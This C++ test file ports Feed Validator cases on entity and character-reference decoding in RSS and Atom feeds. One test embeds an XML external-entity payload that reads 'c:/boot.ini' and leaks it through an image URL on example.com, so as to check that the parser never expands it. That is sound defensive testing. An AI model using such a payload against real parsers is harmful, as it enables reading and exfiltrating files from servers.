// Cases ported from the Feed Validator's testcases (github.com/rubys/feedvalidator,
// testcases/...); inputs kept, expectations restated for what a reader should extract.
//
// The Feed Validator and its testcases are by Sam Ruby and Mark Pilgrim; each testcase file
// states its licence in its header ("License: Python").
//
// This file: entities and character references. How inputs were kept or adapted:
// feedvalidator_rss_test.cc.
#include <gtest/gtest.h>

#include <optional>
#include <string>
#include <string_view>
#include <vector>

#include "parsers/feeds/feed_parser.h"
#include "tests/support/feed_parsing.h"

namespace corpusd {
namespace {

using testing::Iso;
using testing::MustParse;
using testing::npos;
using testing::OnlyItem;

// The document testcases/rss20/data-types-characterdata/amp-*.xml share, differing only in
// the item's <title>, given here as written in the file.
std::string CharacterDataFeed(std::string_view title) {
  return std::string(R"xml(<?xml version='1.0' encoding='iso-8859-1'?>

<rss version="2.0">
<channel>
<title>Validity test</title>
<link>http://www.rssboard.org/rss-profile#data-types-characterdata</link>
<description>Recommendations</description>
<item>
<title>)xml") +
         std::string(title) + R"xml(</title>
</item>
</channel>
</rss>
)xml";
}

std::string CharacterDataTitle(std::string_view title) {
  return OnlyItem(MustParse(CharacterDataFeed(title))).title;
}

// --- Entities and character references ---------------------------------------------
// RSS titles are read as HTML (feeds escape them either once or twice), so a reader gets
// the text after both decodings; a named reference that HTML does not know stays literal.

// testcases/rss20/data-types-characterdata/amp-name.xml
TEST(FeedValidatorEntities, EscapedAmpersandBeforeAName) {
  // "&omega" without its ";" is no HTML reference either.
  EXPECT_EQ(CharacterDataTitle("alpha&amp;omega"), "alpha&omega");
}

// testcases/rss20/data-types-characterdata/amp-cdata-name.xml
TEST(FeedValidatorEntities, EscapedAmpersandInCdata) {
  EXPECT_EQ(CharacterDataTitle("<![CDATA[alpha&amp;omega]]>"), "alpha&omega");
}

// testcases/rss20/data-types-characterdata/amp-decimal.xml
TEST(FeedValidatorEntities, DecimalReference) {
  EXPECT_EQ(CharacterDataTitle("alpha&#38;omega"), "alpha&omega");
}

// testcases/rss20/data-types-characterdata/amp-HEX-upper.xml: "&#X26;" is not XML.
TEST(FeedValidatorEntities, HexReferenceWithCapitalX) {
  Feed feed = MustParse(CharacterDataFeed("alpha&#X26;omega"));
  EXPECT_FALSE(feed.xml_error.empty());
  EXPECT_EQ(OnlyItem(feed).title, "alpha&omega");
}

// testcases/rss20/data-types-characterdata/amp-name-decimal.xml: "&#38;" escaped once more.
TEST(FeedValidatorEntities, DoublyEscapedDecimalReference) {
  EXPECT_EQ(CharacterDataTitle("alpha&amp;#38;omega"), "alpha&omega");
}

// testcases/rss20/data-types-characterdata/non-problems.xml: real titles with ampersands.
TEST(FeedValidatorEntities, RealTitlesWithAmpersands) {
  Feed feed = MustParse(R"xml(<?xml version='1.0' encoding='iso-8859-1'?>

<rss version="2.0">
<channel>
<title>real life plain text that would survive tag soup parsers</title>
<link>http://www.rssboard.org/rss-profile#data-types-characterdata</link>
<description>Recommendations</description>

<item><title>Other Bits &amp; Bytes</title></item>
<item><title>AT&amp;T U-verse set top box "hacked"</title></item>
<item><title>Hackers Gain Data on AT&#38;T Shoppers</title></item>
<item><title>Stolen AT&amp;T Credit-Card Info Used To Launch Phishing Scam</title></item>
<item><title>Now Even AT&#038;T Loves MuniFi</title></item>
<item><title>MAIN: AT&amp;T getting into the Wireless Cities</title></item>
<item><title>M&amp;S to expand electrical goods</title></item>
<item><title>Rove &amp; Company...</title></item>
<item><title>Audio &amp; Illuminated Comforter for kids</title></item>
<item><title>Pam &amp; Jim</title></item>

</channel>
</rss>
)xml");
  std::vector<std::string> titles;
  for (const FeedItem& item : feed.items) titles.push_back(item.title);
  EXPECT_EQ(titles, (std::vector<std::string>{
                        "Other Bits & Bytes",
                        "AT&T U-verse set top box \"hacked\"",
                        "Hackers Gain Data on AT&T Shoppers",
                        "Stolen AT&T Credit-Card Info Used To Launch Phishing Scam",
                        "Now Even AT&T Loves MuniFi",
                        "MAIN: AT&T getting into the Wireless Cities",
                        "M&S to expand electrical goods",
                        "Rove & Company...",
                        "Audio & Illuminated Comforter for kids",
                        "Pam & Jim",
                    }));
}

// testcases/rss/must/rss91n_entity.xml: an HTML entity under Netscape's RSS 0.91 DOCTYPE.
TEST(FeedValidatorEntities, HtmlEntityUnderTheNetscapeDoctype) {
  Feed feed = MustParse(
      R"xml(<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">
<rss version="0.91">
  <channel>
    <title>Sockenbärs Logbuch</title>
    <link>http://www.xn--sockenbrlounge-cib.de/blog</link>
    <description>A Weblog Product for Zope</description>
    <item>
       <title>Und tsch&uuml;ss.</title>
       <link>http://www.xn--sockenbrlounge-cib.de/blog/246</link>
       <description><![CDATA[
Apple verkauft keine 17" G5 iMacs mehr im Online-Laden.
]]></description>
    </item>
  </channel>
</rss>
)xml");
  EXPECT_EQ(feed.format, "rss0.9x");
  EXPECT_EQ(feed.title, "Sockenbärs Logbuch");
  EXPECT_EQ(feed.link, "http://www.xn--sockenbrlounge-cib.de/blog");
  FeedItem item = OnlyItem(feed);
  EXPECT_EQ(item.title, "Und tschüss.");
  EXPECT_EQ(item.link, "http://www.xn--sockenbrlounge-cib.de/blog/246");
  EXPECT_EQ(item.summary, "Apple verkauft keine 17\" G5 iMacs mehr im Online-Laden.");
}

// testcases/rss/must/rss91u_entity.xml: the same HTML entity with no DOCTYPE at all.
TEST(FeedValidatorEntities, HtmlEntityWithoutDoctype) {
  Feed feed = MustParse(R"xml(<rss version="0.91">
  <channel>
    <title>Sockenbärs Logbuch</title>
    <link>http://www.xn--sockenbrlounge-cib.de/blog</link>
    <description>A Weblog Product for Zope</description>
    <item>
       <title>Und tsch&uuml;ss.</title>
       <link>http://www.xn--sockenbrlounge-cib.de/blog/246</link>
       <description><![CDATA[
Apple verkauft keine 17" G5 iMacs mehr im Online-Laden.
]]></description>
    </item>
  </channel>
</rss>
)xml");
  EXPECT_EQ(OnlyItem(feed).title, "Und tschüss.");
}

// testcases/rss/should/system_entity.xml: an external entity inside escaped HTML.
TEST(FeedValidatorEntities, ExternalEntityIsNotRead) {
  FeedItem item = OnlyItem(MustParse(R"xml(<!DOCTYPE rss
[
<!ENTITY passwordfile SYSTEM "file:c:/boot.ini">
]>
<rss version="2.0">
<channel>
<item>
<description>&lt;img src="http://www.example.com/spacer.gif?stealpasswords=&passwordfile;"&gt;</description>
</item>
</channel>
</rss>
)xml"));
  // The reference is left out (never expanded, never fetched).
  EXPECT_TRUE(item.summary.starts_with("<img src=\"http://www.example.com/spacer.gif?"))
      << item.summary;
  EXPECT_EQ(item.summary.find("boot"), npos) << item.summary;
}

// testcases/atom/3.1.1.3/xhtml_named_entity.xml: HTML entities in XHTML content, no DTD.
TEST(FeedValidatorEntities, HtmlEntitiesInXhtmlContent) {
  FeedItem item = OnlyItem(MustParse(R"xml(<feed xmlns="http://www.w3.org/2005/Atom">

  <title>Example Feed</title>
  <link href="http://example.org/"/>
  <updated>2003-12-13T18:30:02Z</updated>
  <author>
    <name>John Doe</name>
  </author>
  <id>urn:uuid:60a76c80-d399-11d9-b93C-0003939e0af6</id>

  <entry>
    <title>Atom-Powered Robots Run Amok</title>
    <link href="http://example.org/2003/12/13/atom03"/>
    <id>urn:uuid:1225c695-cfb8-4ebb-aaaa-80da344efa6a</id>
    <updated>2003-12-13T18:30:02Z</updated>
    <content type="xhtml">
      <div xmlns="http://www.w3.org/1999/xhtml">
        One.&nbsp; Two&hellip; Three! &mdash; Ready or not, here I come!
      </div>
    </content>
  </entry>

</feed>
)xml"));
  EXPECT_EQ(item.content_html, "One.\u00A0 Two\u2026 Three! \u2014 Ready or not, here I come!");
}

// testcases/atom/3.1.1.1/escaped_text.xml: "&nbsp;" escaped in a text construct is text.
TEST(FeedValidatorEntities, EscapedEntityInAtomTextSummaryIsLiteral) {
  FeedItem item = OnlyItem(MustParse(R"xml(<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom">

  <title>Example Feed</title>
  <link href="http://example.org/"/>
  <updated>2003-12-13T18:30:02Z</updated>
  <author>
    <name>John Doe</name>
  </author>
  <id>urn:uuid:60a76c80-d399-11d9-b93C-0003939e0af6</id>

  <entry>
    <title>Atom-Powered Robots Run Amok</title>
    <link href="http://example.org/2003/12/13/atom03"/>
    <id>urn:uuid:1225c695-cfb8-4ebb-aaaa-80da344efa6a</id>
    <updated>2003-12-13T18:30:02Z</updated>
    <summary type="text">Some&amp;nbsp;escaped&amp;nbsp;html</summary>
  </entry>

</feed>
)xml"));
  EXPECT_EQ(item.summary, "Some&nbsp;escaped&nbsp;html");
}

// testcases/atom/3.1.1.2/example_html_title.xml: "&amp;lt;" in an HTML title is a "<".
TEST(FeedValidatorEntities, DoublyEscapedLessThanInHtmlTitle) {
  FeedItem item = OnlyItem(MustParse(R"xml(<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom">

  <title>Example Feed</title>
  <link href="http://example.org/"/>
  <updated>2003-12-13T18:30:02Z</updated>
  <author>
    <name>John Doe</name>
  </author>
  <id>urn:uuid:60a76c80-d399-11d9-b93C-0003939e0af6</id>

  <entry>
    <title type="html">
      Less: &lt;em> &amp;lt; &lt;/em>
    </title>
    <link href="http://example.org/2003/12/13/atom03"/>
    <id>urn:uuid:1225c695-cfb8-4ebb-aaaa-80da344efa6a</id>
    <updated>2003-12-13T18:30:02Z</updated>
    <summary>Some text.</summary>
  </entry>

</feed>
)xml"));
  EXPECT_EQ(item.title, "Less: <");
}

// testcases/atom/2/infoset-char-ref.xml: a date written with character references.
TEST(FeedValidatorEntities, CharacterReferencesInADate) {
  FeedItem item = OnlyItem(MustParse(R"xml(<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom">

  <title>Example Feed</title>
  <link href="http://example.org/"/>
  <updated>2003-12-13T18:30:02Z</updated>
  <author>
    <name>John Doe</name>
  </author>
  <id>urn:uuid:60a76c80-d399-11d9-b93C-0003939e0af6</id>

  <entry>
    <title>Atom-Powered Robots Run Amok</title>
    <link href="http://example.org/2003/12/13/atom03"/>
    <id>urn:uuid:1225c695-cfb8-4ebb-aaaa-80da344efa6a</id>

    <updated>2003&#45;12&#x2d;13T18&#58;30&#x3a;02Z</updated>

    <summary>Some text.</summary>
  </entry>

</feed>
)xml"));
  EXPECT_EQ(item.updated, "2003-12-13T18:30:02Z");
  EXPECT_EQ(Iso(item.updated_at), "2003-12-13T18:30:02Z");
}

}  // namespace
}  // namespace corpusd
